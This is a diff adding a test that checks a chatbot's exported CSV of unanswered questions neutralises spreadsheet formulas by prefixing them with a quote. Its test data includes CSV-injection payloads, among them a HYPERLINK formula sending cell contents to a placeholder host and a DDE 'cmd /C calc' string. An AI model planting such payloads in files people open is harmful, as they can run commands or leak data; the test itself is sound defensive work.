@@ -339,6 +339,28 @@ def seen_caption(call: Call) -> str:
     return parse_html(caption)[0]
 
 
+async def test_the_unanswered_csv_writes_formula_like_questions_as_text(
+    running: Running,
+) -> None:
+    asked = [
+        '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
+        "+84 283 817 2459 gọi ai",
+        "-2+3 là mấy",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    assert all(unanswered(running.assistant, q) for q in asked)
+    for number, question in enumerate(asked):
+        await running.send(question, 1000 + number)
+
+    calls = await running.exchange("/unanswered", ADMIN)
+
+    document = next(c for c in calls if c.method == "sendDocument")
+    upload = document.files["document"]
+    rows = list(csv.DictReader(io.StringIO(upload.data.decode("utf-8-sig"))))
+    # A leading quote: the spreadsheet shows the question as typed and never runs it.
+    assert sorted(r["cau_hoi"] for r in rows) == sorted("'" + q for q in asked)
+
+
 async def test_unanswered_with_nothing_to_show(running: Running) -> None:
     calls = await running.exchange("/unanswered", ADMIN)
     assert [(c.method, seen(c)) for c in calls] == [("sendMessage", texts.UNANSWERED_NONE)]
